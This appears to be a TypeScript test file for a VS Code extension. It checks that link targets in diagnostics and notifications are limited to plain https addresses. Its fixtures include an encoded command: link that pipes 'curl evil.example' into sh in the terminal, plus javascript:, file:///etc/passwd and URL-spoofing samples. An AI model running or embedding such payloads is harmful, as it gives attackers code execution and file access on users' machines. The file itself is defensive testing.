import assert from "node:assert/strict";
import { test } from "node:test";
import type * as code from "vscode";
import { vscode } from "./vscodeMock";
import { toDiagnostic, withSafeCodeLink } from "../src/diagnostics";
import { httpsUrl, notificationText } from "../src/inert";

const COMMAND = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D";
// VS Code's notification links (src/vs/base/common/linkedText.ts): a command: target runs on a click.
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

test("only a plain https address with a host is a link target", () => {
  for (const url of [COMMAND, "COMMAND:x", "javascript:alert(1)", " javascript:alert(1)", "file:///etc/passwd",
    "vscode://vscode.git/clone?url=x", "data:text/html,x", "//evil.example/x", "https:evil.example", "https:///evil.example",
    "https://user:pw@evil.example/", "https://evil .example/", "https://docs.python.org/\n", "https://docs.python.org/\u0000x", "https://evil.example\\@docs.python.org/",
    "http://evil.example/", 42, undefined]) {
    assert.equal(httpsUrl(url), undefined, String(url));
  }
  assert.equal(httpsUrl("https://docs.python.org/3/library/ast.html"), "https://docs.python.org/3/library/ast.html");
});

test("a review finding's command: url becomes no code link", () => {
  const base = { file: "/repo/app.py", startLine: 0, startColumn: 0, endLine: 0, endColumn: 4, severity: "error" as const,
    message: "no eval", code: "local/no-eval", source: "postil review" };
  assert.equal(toDiagnostic({ ...base, url: COMMAND }).code, "local/no-eval");
  const fine = toDiagnostic({ ...base, url: "https://example.com/rules#no-eval" }).code as { target: { toString(): string } };
  assert.equal(fine.target.toString(), "https://example.com/rules#no-eval");
});

test("a server diagnostic keeps its code link only to an https page", () => {
  const range = new vscode.Range(0, 0, 0, 4);
  const diagnostic = (target: string) => {
    const made = new vscode.Diagnostic(range, "no eval", vscode.DiagnosticSeverity.Error);
    made.code = { value: "local/no-eval", target: vscode.Uri.parse(target) };
    return made as unknown as code.Diagnostic;
  };
  assert.equal(withSafeCodeLink(diagnostic(COMMAND)).code, "local/no-eval");
  assert.equal(withSafeCodeLink(diagnostic("file:///etc/passwd")).code, "local/no-eval");
  assert.equal(typeof withSafeCodeLink(diagnostic("https://example.com/rules#no-eval")).code, "object");
});

test("a notification line holds no link VS Code would make", () => {
  const shown = notificationText(`postil: rules/[run](${COMMAND}).yml: rule 'x': missing \`language\``);
  assert.equal(NOTIFICATION_LINK.test(shown), false);
  assert.ok(shown.includes("[run]") && shown.includes("missing `language`"));
});
